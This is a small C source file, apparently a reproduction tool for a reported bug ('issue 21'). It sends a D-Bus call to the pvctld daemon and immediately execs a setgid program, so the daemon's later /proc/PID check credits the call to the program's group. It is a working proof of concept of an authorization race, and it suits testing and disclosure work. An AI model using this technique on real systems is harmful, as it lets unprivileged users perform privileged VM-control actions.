// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * The race of issue 21, played on purpose:
 *
 *   call-then-exec ADDR METHOD VM PROGRAM [ARG...]
 *
 * connects to the bus at ADDR, sends org.pvabi.pvctl1.Manager.METHOD(VM)
 * to pvctld without waiting for the answer, then execs PROGRAM in the same
 * process.  When PROGRAM is setgid and pvctld looks at /proc/PID after the
 * exec, it sees the program's group, not the caller's.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include <systemd/sd-bus.h>

#include "bus_open.h"

int main(int argc, char **argv)
{
	struct pvctl_bus_opts o = {PVCTL_BUS_ADDRESS, argv[1]};
	sd_bus_message *m = NULL;
	sd_bus *bus = NULL;
	int r;

	if (argc < 5) {
		fputs("usage: call-then-exec ADDR METHOD VM PROGRAM [ARG...]\n",
		      stderr);
		return 2;
	}
	r = pvctl_bus_open(&o, &bus);
	if (r >= 0)
		r = sd_bus_message_new_method_call(
			bus, &m, "org.pvabi.pvctl1", "/org/pvabi/pvctl1",
			"org.pvabi.pvctl1.Manager", argv[2]);
	if (r >= 0)
		r = sd_bus_message_append(m, "s", argv[3]);
	if (r >= 0)
		r = sd_bus_send(bus, m, NULL);
	if (r >= 0)
		r = sd_bus_flush(bus);
	if (r < 0) {
		fprintf(stderr, "call-then-exec: %s\n", strerror(-r));
		return 1;
	}
	/* The bus connection stays open across the exec: the call's sender
	 * is still there when pvctld looks. */
	fcntl(sd_bus_get_fd(bus), F_SETFD, 0);
	execv(argv[4], argv + 4);
	perror("call-then-exec: exec");
	return 1;
}
